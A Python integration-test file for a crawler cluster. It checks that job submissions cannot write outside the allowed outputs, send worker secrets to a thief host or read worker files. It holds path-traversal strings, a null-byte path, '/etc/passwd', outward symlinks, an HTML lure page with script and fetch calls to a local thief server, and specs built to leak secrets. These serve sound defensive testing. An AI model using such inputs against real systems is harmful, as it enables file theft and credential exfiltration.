"""What a submission may not do to a cluster: write files outside the outputs, read files of a
worker, and get hold of the workers' secrets.

Real masters and workers on a real Consul and a real MariaDB. The requests are those of a client
that keeps to no rule of its own: they go straight to the master.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest

from tests.integration.browser_site import need_chromium
from tests.integration.cluster import Cluster, cluster
from tests.integration.crawling import command, wait_until
from tests.servers.consul import ConsulServer
from tests.servers.mariadb import Mariadb
from tests.servers.s3 import BUCKET, objects
from tests.web.server import WebThread
from tests.web.shelf import Document
from zcrawl.errors import ZcrawlError
from zcrawl.model.spec import Auth, Browser, Fetch, JobSpec, Login, OutputSpec, Politeness, Scope
from zcrawl.submit.read import to_dict

need_chromium()

PRECIOUS = b"do not overwrite me\n"
POLITE = Politeness(rate=0.0, robots=False)


def submit(
    made: Cluster, spec: JobSpec, seeds: list[str], output: tuple[str, str] | None = None
) -> int:
    """The number of the run. The sites are on this machine, so each job opens it."""
    opened = msgspec.structs.replace(spec.fetch, allow_private=True)
    spec = msgspec.structs.replace(spec, fetch=opened)
    args: dict[str, Any] = {"spec": to_dict(spec), "mode": "new", "seeds": seeds, "seeding": False}
    args["output"] = list(output) if output else None
    return int(made.ask("submit", args)["run"])


def refusal(made: Cluster, name: str, output: tuple[str, str] | None, *to: str) -> str:
    """The code that a job with these outputs is refused with."""
    spec = JobSpec(name, politeness=POLITE, output=OutputSpec(to=to or ("sql",)))
    with pytest.raises(ZcrawlError) as caught:
        submit(made, spec, ["http://127.0.0.1:9/"], output)
    return caught.value.code


@pytest.mark.usefixtures("s3")
def test_no_submission_writes_outside_the_outputs_of_a_cluster(
    tmp_path: Path, consul: ConsulServer, mysql: Mariadb
) -> None:
    """An absolute path, a way up, a home folder, a symbolic link that leads out and a bucket that
    the masters do not name: refused by name, and nothing is touched. So is an output that an
    earlier version let into the database; the outputs beside it are written. What is inside the
    outputs, and inside the prefixes that the masters name, is written as ever."""
    precious = tmp_path / "precious.jsonl"
    precious.write_bytes(PRECIOUS)
    outputs, shared = tmp_path / "m1" / "outputs", tmp_path / "shared"
    outputs.mkdir(parents=True)
    shared.mkdir()
    (outputs / "way").symlink_to(tmp_path)
    (outputs / "linked.jsonl").symlink_to(precious)
    allow = [f"s3://{BUCKET}/mine", f"{shared}/"]
    with (
        WebThread() as web,
        cluster(tmp_path, consul.url, mysql, masters=1, workers=1, outputs__allow=allow) as made,
    ):
        seed, bucket = web.url("/good/2/0"), f"s3://{BUCKET}"
        for number, path in enumerate(
            (
                str(precious),
                "../precious.jsonl",
                "a/../../precious.jsonl",
                "~/precious.jsonl",
                f"{shared}/../precious.jsonl",
                f"{shared}-evil/x.jsonl",
                f"{bucket}/x.jsonl",
                f"{bucket}/mine-evil/x.jsonl",
                f"{bucket}/mine/../x.jsonl",
                f"{bucket}/mine/%2e%2e/x.jsonl",
                f"{bucket}/mine//x.jsonl",
                "s3://other/mine/x.jsonl",
                "S3://crawl/mine/x.jsonl",
                "",
                "a\0b.jsonl",
            )
        ):
            assert refusal(made, f"o{number}", (path, "jsonl")) == "path_not_allowed", path
            if path and "\0" not in path:
                assert refusal(made, f"t{number}", None, path) == "path_not_allowed", path
        assert refusal(made, "format", ("x.jsonl", "csv")) == "bad_request"
        assert made.rows("SELECT COUNT(*) FROM jobs") == [(0,)]

        # The command looks at no path of its own machine: it is the master's that counts.
        mine = tmp_path / "elsewhere"
        mine.mkdir()
        args = ("submit", seed, "--allow-private", "--config", tmp_path / "client.toml", "--out")
        done = command(*args, "/no/such/folder/x.jsonl", cwd=mine)
        assert (done.returncode, "path_not_allowed" in done.stderr) == (1, True), done.stderr
        assert "zcrawl export" in done.stderr
        done = command(*args, "command.jsonl", "--wait", cwd=mine)
        assert done.returncode == 0, done.stderr
        wait_until(lambda: (outputs / "command.jsonl").exists())
        assert not list(mine.iterdir())

        good = ("plain.jsonl", "deep/{name}-{run}.csv", f"{bucket}/mine/x.jsonl")
        spec = JobSpec("good", politeness=POLITE, output=OutputSpec(to=good))
        run = submit(made, spec, [seed], (f"{shared}/by-hand.jsonl", "jsonl"))
        # A link is found out when the file is opened: the path itself says nothing of it.
        linked = JobSpec("linked", politeness=POLITE, output=OutputSpec(to=("way/precious.jsonl",)))
        runs = [run, submit(made, linked, [seed], ("linked.jsonl", "jsonl"))]
        # As if submitted to an earlier version, or to masters with other prefixes.
        add = "INSERT INTO outputs (run, path, format) VALUES (%s, %s, %s)"
        for path in (str(precious), "../precious.jsonl", f"{bucket}/theirs.jsonl"):
            made.rows(add, run, path.encode(), "jsonl")
        for number in runs:
            made.wait_done(number)
        files = (
            outputs / "plain.jsonl",
            outputs / f"deep/good-{run}.csv",
            shared / "by-hand.jsonl",
        )
        wait_until(lambda: all(path.exists() and path.read_bytes() for path in files))
        wait_until(lambda: "mine/x.jsonl" in objects())
        log = made.masters["m1"]
        wait_until(lambda: log.text().count("output_path_not_allowed") >= 5)
        assert len(files[0].read_bytes().splitlines()) == 2
        assert set(objects()) == {"mine/x.jsonl"}
        for word in ("outputs/way'", "outputs/linked.jsonl'", "theirs.jsonl'"):
            assert word in log.text()
        assert log.text().count("output_path_not_allowed") == 5, "told once each, not every second"
    assert precious.read_bytes() == PRECIOUS
    assert sorted(path.name for path in tmp_path.glob("*.jsonl")) == ["precious.jsonl"]


SECRET = "s3cr3t-0f-th3-w0rk3rs"
LURES = """
<img src="{thief}/status/200?image"><script src="/redirect-to?{thief}/status/200%3Fscript"></script>
<iframe src="/redirect-to?{thief}/status/200%3Fframe"></iframe>
<script>
fetch("/redirect-to?{thief}/status/200%3Ffetch", {{mode: "no-cors"}});
fetch("{thief}/status/200?direct", {{mode: "no-cors"}});
fetch("/status/200?own");
</script>"""


def reasons(made: Cluster, run: int) -> dict[str, int]:
    """Why pages of a run failed, as it is stored."""
    made.wait_done(run)
    rows = made.rows("SELECT name, n FROM tallies WHERE run = %s AND kind = 'failed'", run)
    return {str(name): int(n) for name, n in rows}


def thefts(home: str, thief: str) -> dict[str, tuple[JobSpec, list[str]]]:
    """Jobs that would send a secret to the thief's host, by how."""
    port = int(thief.rpartition(":")[2])
    page, key = f"{thief}/status/200", "${KEY}"
    fetches = {
        "header": Fetch(headers={"X-Key": key}),
        "header of the browser": Fetch(headers={"X-Key": f"Bearer {key}"}, engine="browser"),
        "header set": Fetch(header_sets=({"X-Key": key},)),
        "bearer": Fetch(auth=(Auth(f"127.0.0.1:{port}", bearer=key),)),
        "password": Fetch(auth=(Auth("127.0.0.1", user="x", password=key),)),
        "proxy": Fetch(proxies=(f"http://x:{key}@127.0.0.1:{port}",)),
        "proxy that reads along": Fetch(headers={"X-Key": key}, proxies=(thief,)),
        "secret without hosts": Fetch(headers={"X-Key": "${FREE}"}),
    }
    at_home = ("proxy", "proxy that reads along", "secret without hosts")
    jobs = {
        how: (
            JobSpec(how, politeness=POLITE, fetch=fetch),
            [f"{home}/status/200" if how in at_home else page],
        )
        for how, fetch in fetches.items()
    }
    login = Login(f"{thief}/login", {"user": "x", "password": key})
    jobs["login"] = (JobSpec("login", politeness=POLITE, login=login), [page])
    return jobs


@pytest.mark.timeout(300)
def test_no_submission_gets_a_secret_to_a_host_of_its_own(
    tmp_path: Path, consul: ConsulServer, mysql: Mariadb, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A secret goes to the hosts that the workers' configuration names and to no other: not as a
    header, a password, a form's field or a proxy's credentials, not behind a redirect, not with
    what a page in the browser loads. The request is refused by name, before anything is sent; the
    target of a redirect is fetched without the secret. Where it may go, it arrives."""
    with WebThread() as home, WebThread() as thief:
        there, here = f"http://127.0.0.1:{thief.port}", f"http://127.0.0.1:{home.port}"
        monkeypatch.setenv("ZCRAWL_SECRET_KEY", SECRET)
        monkeypatch.setenv("ZCRAWL_SECRET_FREE", SECRET)
        monkeypatch.setenv("ZCRAWL_SECRETS__KEY", f"127.0.0.1:{home.port}")
        with cluster(tmp_path, consul.url, mysql, masters=1, workers=1) as made:
            for how, (spec, seeds) in thefts(here, there).items():
                assert reasons(made, submit(made, spec, seeds)) == {"secret_not_released": 1}, how
            assert thief.connections == 0
            assert home.connections == 0
            assert "[secrets.KEY]" in made.workers["w1"].text(), "the log says what to do"

            headers = {"X-Key": "${KEY}", "X-Other": "plain"}
            seeds = [f"{here}/redirect-to?{there}/status/200%3Fseed", f"{here}/status/200"]
            spec = JobSpec(
                "redirect", politeness=POLITE, fetch=Fetch(headers=headers, allow_private=True)
            )
            assert reasons(made, submit(made, spec, seeds)) == {}
            assert [hit.path for hit in thief.log] == ["/status/200?seed"]
            assert thief.log[0].headers["x-other"] == "plain"

            home.shelf["page"] = Document(LURES.format(thief=there))
            fetch = Fetch(headers=headers, engine="browser", timeout=60.0, allow_private=True)
            show = Browser(block=(), wait="idle", wait_s=1.0)
            spec = JobSpec(
                "page", politeness=POLITE, fetch=fetch, browser=show, scope=Scope(max_depth=0)
            )
            assert reasons(made, submit(made, spec, [f"{here}/shelf/page"])) == {}
            lured = {hit.path.partition("?")[2] for hit in thief.log}
            assert lured >= {"image", "script", "frame", "fetch", "direct"}, "or it proves nothing"
        for hit in thief.log:
            assert SECRET not in json.dumps([hit.path, hit.headers, hit.body.decode("latin-1")])
        sent = {hit.path for hit in home.log if hit.headers.get("x-key") == SECRET}
        assert {"/status/200", "/shelf/page", "/status/200?own"} <= sent
    stored = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert not [path for path in stored if SECRET.encode() in path.read_bytes()]


def test_no_submission_reads_a_file_of_a_worker(
    tmp_path: Path, consul: ConsulServer, mysql: Mariadb
) -> None:
    """Certificates come from the folders that the worker's configuration names. Any other path
    fails by the same name whether it is there or not, and nothing is asked for."""
    certificates = tmp_path / "tls"
    certificates.mkdir()
    (certificates / "ca.pem").write_text("no certificate\n")
    changes = {"worker__tls_files": [f"{certificates}/"]}
    with WebThread() as web, cluster(tmp_path, consul.url, mysql, 1, 1, **changes) as made:
        for number, path in enumerate(
            (
                "/etc/passwd",
                "/etc/no-such-file",
                f"{certificates}/../w1.toml",
                f"{certificates}-evil/ca.pem",
                "tls/ca.pem",
                "~/ca.pem",
            )
        ):
            for key, fetch in (
                ("ca", Fetch(ca_file=path)),
                ("cert", Fetch(client_cert=path)),
                ("key", Fetch(client_cert=f"{certificates}/ca.pem", client_key=path)),
            ):
                spec = JobSpec(f"{key}{number}", politeness=POLITE, fetch=fetch)
                run = submit(made, spec, [web.url("/status/200")])
                assert reasons(made, run) == {"path_not_allowed": 1}, (key, path)
        assert web.connections == 0
        allowed = Fetch(ca_file=f"{certificates}/ca.pem", retries=0, allow_private=True)
        run = submit(
            made, JobSpec("own", politeness=POLITE, fetch=allowed), [web.url("/status/200")]
        )
        assert reasons(made, run) == {}, "plain http needs no certificate, and the path is allowed"
